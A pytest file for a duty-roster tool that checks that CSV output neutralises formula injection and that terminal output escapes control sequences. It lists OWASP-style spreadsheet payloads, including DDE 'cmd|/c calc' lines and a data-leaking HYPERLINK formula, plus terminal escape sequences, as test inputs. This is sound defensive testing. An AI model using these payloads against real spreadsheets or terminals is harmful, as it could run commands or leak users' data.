"""Hostile text from input files: formulas kept out of CSV cells, escapes kept off the terminal.

Station files refuse such ids on input; these tests build stations and rosters past validation
(`model_copy`, `model_construct`), as the writers are the second line of defence.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from typer.testing import CliRunner, Result

from rosterkit.cells import FORMULA_STARTS, looks_like_formula, neutralise, restore
from rosterkit.cli import app
from rosterkit.cli.display import Ui, visible
from rosterkit.duties import slot_map
from rosterkit.excel.styles import put
from rosterkit.roster import Roster
from rosterkit.station import Station
from rosterkit.stations import qianmen
from rosterkit.tables import (
    COLUMNS,
    long_csv_text,
    long_json_text,
    long_rows,
    read_roster_table,
    write_long_csv,
)

DECEMBER = [dt.date(2026, 12, day) for day in range(1, 32)]

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted by someone: one more quote, so that it reads back as it was
]
"""Text that a spreadsheet would run as a formula (OWASP's CSV injection examples)."""

_PLAIN = {"FORCE_COLOR": None, "TTY_COMPATIBLE": None, "TTY_INTERACTIVE": None}


@pytest.fixture(scope="module")
def station() -> Station:
    return qianmen()


def _with_officer_id(station: Station, old: str, new: str) -> Station:
    """The station with one officer renamed, past the schema's checks."""
    officers = [o.model_copy(update={"id": new}) if o.id == old else o for o in station.officers]
    return station.model_copy(update={"officers": officers})


def _roster(cells: dict[str, dict[dt.date, str]], groups: dict[str, int]) -> Roster:
    return Roster.model_construct(station_id="qianmen", month="2026-12", groups=groups, cells=cells)


def _csv_lines(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- the rule --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_reads_as_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "text", ["P015", "ccar@qiandong", "", "'", "'P015", "a=b", "张三", "O'Brien", " =1"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@given(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", "a", "1", " "])))
def test_restore_gives_back_what_neutralise_was_given(text: str) -> None:
    written = neutralise(text)
    assert not looks_like_formula(written)
    assert restore(written) == text


def test_the_workbook_marks_formula_like_text_with_the_quote_prefix() -> None:
    sheet = Workbook().active
    assert sheet is not None
    cells: list[Cell] = [put(sheet, row, 1, text) for row, text in enumerate(HOSTILE[:6], 1)]
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in cells)
    assert not put(sheet, 10, 1, "P015").quotePrefix
    assert not put(sheet, 11, 1, -3).quotePrefix


# --- the long table --------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE)
def test_csv_quotes_a_formula_like_officer_id_and_reads_it_back(
    tmp_path: Path, station: Station, hostile: str
) -> None:
    station = _with_officer_id(station, "P015", hostile)
    roster = _roster({hostile: {DECEMBER[0]: "desk", DECEMBER[1]: "leave"}}, {hostile: 2})
    path = write_long_csv(tmp_path / "long.csv", station, roster)
    lines = _csv_lines(path.read_bytes().decode("utf-8"))
    assert [line[0] for line in lines[1:]] == ["'" + hostile] * 2
    assert not any(looks_like_formula(cell) for line in lines for cell in line)
    back = read_roster_table(path, station)
    assert (back.cells, back.groups) == (roster.cells, roster.groups)


@pytest.mark.parametrize("officer_id", ["P0\r15", "P0\n15", "P0\r\n15", 'P"0,15'])
def test_a_line_break_inside_a_cell_keeps_the_csv_row_whole(
    tmp_path: Path, station: Station, officer_id: str
) -> None:
    station = _with_officer_id(station, "P015", officer_id)
    roster = _roster({officer_id: {DECEMBER[0]: "off"}}, {})
    path = write_long_csv(tmp_path / "long.csv", station, roster)
    assert _csv_lines(path.read_bytes().decode("utf-8"))[1][0] == officer_id
    assert read_roster_table(path, station).cells == roster.cells


def test_csv_quotes_a_formula_like_post_code_and_reads_it_back(
    tmp_path: Path, station: Station
) -> None:
    code = "=1+1"
    posts = [p.model_copy(update={"code": code}) if p.code == "desk" else p for p in station.posts]
    station = station.model_copy(update={"posts": posts})
    assert code in slot_map(station)
    roster = _roster({"P015": {DECEMBER[0]: code}}, {})
    path = write_long_csv(tmp_path / "long.csv", station, roster)
    assert _csv_lines(path.read_text(encoding="utf-8"))[1][4] == "'=1+1"
    assert read_roster_table(path, station).cells == roster.cells


def test_csv_numbers_and_dates_are_not_quoted(station: Station) -> None:
    roster = _roster({"P015": {DECEMBER[0]: "rest"}}, {"P015": -1})  # a negative group: a number
    assert _csv_lines(long_csv_text(station, roster))[1][:3] == ["P015", "2026-12-01", "-1"]


def test_json_holds_formula_like_text_as_it_is(station: Station) -> None:
    hostile = HOSTILE[0]
    roster = _roster({hostile: {DECEMBER[0]: "off"}}, {})
    document = json.loads(long_json_text(_with_officer_id(station, "P015", hostile), roster))
    assert document["rows"][0]["officer_id"] == hostile


def _unquoted_csv(station: Station, roster: Roster) -> str:
    """The long table as CSV the way it was written before text cells were neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(COLUMNS)
    for row in long_rows(station, roster):
        group = "" if row.duty_group is None else row.duty_group
        call_in = "true" if row.call_in else "false"
        writer.writerow([row.officer_id, row.date.isoformat(), group, row.state, row.post, call_in])
    return buffer.getvalue()


def test_the_built_in_station_table_is_written_as_before(station: Station) -> None:
    codes = [*slot_map(station), "rest", "leave", "off"]
    roster = _roster(
        {
            officer.id: {day: codes[(n + day.day) % len(codes)] for day in DECEMBER}
            for n, officer in enumerate(station.officers)
        },
        {officer.id: 1 + n % 3 for n, officer in enumerate(station.officers)},
    )
    assert long_csv_text(station, roster) == _unquoted_csv(station, roster)


# --- the terminal ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("P\x1b[2J01", "P\\x1b[2J01"),
        ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
        ("a\x9b31mb", "a\\x9b31mb"),  # the one-byte CSI of C1
        ("tab\there\rback\x00", "tab\\there\\rback\\x00"),
        ("zero\u200bwidth\u202eflip\ufeff", "zero\\u200bwidth\\u202eflip\\ufeff"),
        ("tag\U000e0041", "tag\\U000e0041"),
        ("line one\nline two", "line one\nline two"),
        ("前门派出所 P015 [bold]x[/]", "前门派出所 P015 [bold]x[/]"),
    ],
)
def test_visible_shows_control_and_format_characters_escaped(text: str, shown: str) -> None:
    assert visible(text) == shown


def _run(*args: object) -> Result:
    return CliRunner().invoke(app, [str(arg) for arg in args], env=_PLAIN)


def test_an_escape_sequence_in_a_leave_file_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    leave = tmp_path / "leave.yaml"
    leave.write_text(
        '- {officer_id: "P\\x1b[2J01", start: 2026-12-03, end: 2026-12-09}\n'
        '- {officer_id: "P\\e]0;owned\\a02", start: 2026-12-03, end: 2026-12-09}\n'
        '- {officer_id: "P\\x9b2J03", start: 2026-12-03, end: 2026-12-09}\n',
        encoding="utf-8",
    )
    result = _run("generate", "-m", "2026-12", "--leave", leave, "-o", tmp_path / "out.csv")
    assert result.exit_code == 2, result.output
    assert "unknown officer 'P\\x1b[2J01'" in result.stderr
    assert "unknown officer 'P\\x1b]0;owned\\x0702'" in result.stderr
    assert "unknown officer 'P\\x9b2J03'" in result.stderr
    assert not any(char in result.output for char in "\x1b\x07\x9b")
    assert not (tmp_path / "out.csv").exists()


def test_raw_control_bytes_in_a_leave_table_reach_the_terminal_escaped(tmp_path: Path) -> None:
    leave = tmp_path / "leave.csv"
    leave.write_bytes(b"officer_id,start,end\nP\x1b[2J01,2026-12-01,2026-12-02\n")
    result = _run("explain", "-m", "2026-12", "--leave", leave)
    assert result.exit_code == 2, result.output
    assert "P\\x1b[2J01" in result.stderr
    assert "\x1b" not in result.output


def test_a_log_warning_shows_a_value_from_a_file_escaped(tmp_path: Path) -> None:
    leave = tmp_path / "leave.csv"
    leave.write_bytes(b"officer_id,start,end,no\x1b[2Jte\nP999,2026-12-01,2026-12-02,x\n")
    result = _run("explain", "-m", "2026-12", "--leave", leave)
    assert "columns not read: no\\x1b[2Jte" in result.stderr
    assert "\x1b" not in result.output


@pytest.mark.parametrize("officer_id", ["[bold]X[/bold]", "[/]", "[red on white]P1[/]"])
def test_rich_markup_in_a_value_is_printed_as_written(tmp_path: Path, officer_id: str) -> None:
    leave = tmp_path / "leave.json"
    leave.write_text(
        json.dumps([{"officer_id": officer_id, "start": "2026-12-03", "end": "2026-12-04"}]),
        encoding="utf-8",
    )
    result = _run("explain", "-m", "2026-12", "--leave", leave)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert f"unknown officer '{officer_id}'" in result.stderr


def test_say_and_error_escape_every_part(capsys: pytest.CaptureFixture[str]) -> None:
    from rich.text import Text

    ui = Ui()
    ui.say(Text("bad\x1b[2J.csv: ", style="bold red"), "name \x1b[31m[/]", "\n")
    ui.error("row 2: unknown officer '\x1b]0;x\x07' [bold]")
    out, err = capsys.readouterr()
    assert out == "bad\\x1b[2J.csv: name \\x1b[31m[/]\n\n"
    assert err == "error: row 2: unknown officer '\\x1b]0;x\\x07' [bold]\n"
